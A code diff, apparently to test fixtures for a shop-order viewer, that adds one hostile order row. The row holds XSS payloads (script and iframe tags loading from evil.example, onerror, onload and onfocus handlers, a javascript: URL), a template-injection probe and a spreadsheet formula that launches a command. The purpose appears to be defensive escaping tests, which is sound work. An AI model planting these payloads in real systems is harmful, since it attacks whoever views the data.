@@ -60,6 +60,20 @@ preset = "dujiaoka"
 url = "sqlite:///shop.db"
 """
 
+HOSTILE: Final = {
+    "contact": '"><script src=//evil.example>steal()</script>@qq.com',
+    "account": "=cmd|'/C calc'!A0",
+    "product": "</td><img src=x onerror=alert(1)> {{ 7 * 7 }}",
+    "merchant": "mx",
+    "merchant_name": "<svg/onload=alert(2)>",
+    "channel": "javascript:alert(3)",
+    "trade_no": "2026999988887777666655554444",
+    "own_no": "' onfocus=alert(4) autofocus x='",
+    "target": "<iframe src=//evil.example></iframe>",
+    "state": "done",
+}
+"""What a buyer or a merchant may have written into his own order."""
+
 
 class Loop:
     """An event loop in a thread of its own."""
@@ -238,11 +252,13 @@ def hasten(state: State) -> None:
 
 
 def shop_rows(count: int) -> list[Row]:
-    """Return orders of two days."""
+    """Return orders of two days; the last one is of somebody who attacks whoever reads it."""
     random_ = random.Random(7)
-    return [
+    rows = [
         a_row(random_, n + 1, at(2 + n % 2) + timedelta(seconds=n), shop=0) for n in range(count)
     ]
+    hostile = a_row(random_, count + 1, at(3) + timedelta(seconds=count), shop=0)
+    return [*rows, {**hostile, **HOSTILE}]
 
 
 @contextmanager
